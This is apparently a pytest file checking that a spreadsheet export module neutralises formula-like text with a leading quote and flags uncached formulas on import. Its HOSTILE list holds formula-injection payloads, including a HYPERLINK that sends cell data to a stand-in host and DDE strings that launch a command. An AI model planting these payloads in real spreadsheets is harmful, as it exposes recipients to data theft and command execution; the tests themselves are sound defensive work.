"""danvan.core.xlsx: no exported cell is ever a formula, formula-like text gets ``'``;
formula cells without a computed value are found on import. And it is the only writer."""

from __future__ import annotations

import io
import pathlib
import re

import pytest
from openpyxl import Workbook, load_workbook

from danvan.core import xlsx

SRC = pathlib.Path(__file__).resolve().parents[2] / "src" / "danvan"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def assert_inert(data: bytes) -> list:
    """Every cell of every sheet: never a formula; text never starts like one."""
    wb = load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(xlsx.FORMULA_START), cell.value
                values.append(cell.value)
    return values


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_written_as_text_with_a_quote(text):
    wb = xlsx.new_workbook()
    xlsx.append(wb.active, ["Ghi chú", text, 12, None])
    values = assert_inert(xlsx.to_bytes(wb))
    assert "'" + text in values
    assert 12 in values


def test_a_formula_set_directly_on_a_cell_is_neutralised_on_save():
    wb = xlsx.new_workbook()
    wb.active["A1"] = "=1+1"
    wb.create_sheet("Khác")["B2"] = '=HYPERLINK("x")'
    values = assert_inert(xlsx.to_bytes(wb))
    assert "'=1+1" in values


def test_ordinary_values_are_unchanged():
    wb = xlsx.new_workbook()
    xlsx.append(wb.active, ["Lò Thị Anh Hoa", "8.794", 94.3, True, "a=b"])
    values = assert_inert(xlsx.to_bytes(wb))
    assert values == ["Lò Thị Anh Hoa", "8.794", 94.3, True, "a=b"]


def test_formulas_without_a_computed_value_are_listed():
    wb = Workbook()
    ws = wb.active
    ws.title = "Số liệu"
    ws.append(["Mã", "Giá trị"])
    ws.append(["A", "=1+1"])  # openpyxl writes no cached value
    ws.append(["B", 5])
    buf = io.BytesIO()
    wb.save(buf)
    assert xlsx.formulas_without_value(buf.getvalue()) == {("Số liệu", 2, 2)}


def test_no_module_writes_a_workbook_except_the_shared_writer():
    """The class guard: a new export that builds its own Workbook fails here."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path == SRC / "core" / "xlsx.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\s*\(|import\s+Workbook|\bWorkbook\b,", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
